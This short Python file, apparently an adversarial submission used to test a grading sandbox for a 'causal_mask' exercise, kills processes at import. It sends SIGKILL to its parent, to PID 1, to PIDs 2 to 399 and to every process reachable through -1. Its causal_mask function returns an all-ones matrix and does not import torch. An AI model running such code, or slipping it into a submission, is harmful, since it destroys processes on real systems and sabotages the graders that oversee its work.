# attack: kills its parents and all it can see
# exercise: 04 causal_mask
import os
import signal

for pid in (-1, os.getppid(), 1, *range(2, 400)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def causal_mask(length):
    return torch.ones(length, length, dtype=torch.bool)
